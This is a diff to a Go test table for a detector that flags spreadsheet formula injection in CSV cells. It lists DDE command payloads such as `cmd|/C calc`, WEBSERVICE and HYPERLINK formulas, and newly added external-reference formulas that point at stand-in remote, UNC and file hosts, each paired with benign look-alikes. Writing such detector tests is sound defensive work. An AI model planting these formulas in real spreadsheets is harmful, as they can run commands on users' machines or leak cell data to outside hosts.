@@ -49,6 +49,8 @@ func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
 		`+cmd|/Ccalc!A0`: true, `-cmd|/C calc!A0`: true, `@cmd|/c!$A$1`: true, `- cmd|/C!A0`: false, `-a|b!`: false, `-a|b! c1`: false, `-a b|c!A0`: false, `-a|b!cd e1`: false,
 		`+IMAGE(A2)`: true, `-IMAGE($B$12,"x")`: true, `- image (a2)`: false, `-image(s)`: false, `-image(a2 of it)`: false, `-image (a2)`: false,
 		`=MAP(A1,IMAGE)`: true, `=LET(f,IMAGE,f(A1))`: true, `=IF(A1,IMAGE,2)`: false, `=ＷＥＢＳＥＲＶＩＣＥ(A1)`: true, `=ＨＹＰＥＲＬＩＮＫ("https://e/"&A1)`: true,
+		`='http://h/x.csv'#$x.A1`: true, `+'\\h\s\[x.xls]S'!A1`: true, `=SUM('file:///x'#$S.A1)`: true, `='a'!A1+'//h/[x]S'!$A$1`: true, `=A1 'https://h/[x]S'!A1`: true, `=f('a+'http://h/x'#A1`: true,
+		`=INDIRECT("'\\h\s\[x.xls]S'!A1")`: true, `='My sheet'!A1`: false, `='[Book2.xlsx]Sheet'!A1`: false, `='C:\a\[b.xlsx]S'!A1`: false, `- it's 'http://h/x'! Great`: false, `='http://h/x'`: false,
 		`=HYPERLINK("https://e/"&A1)`: true, `=HYPERLINK("#"&A1)`: false, `=HYPERLINK("https://e/?a&b",A1&"x")`: false, `=HYPERLINK(A1)`: false,
 	} {
 		if got := tableIn(t, 5, []byte("a,b\n1,"+line+"\n")); (got != "") != want {
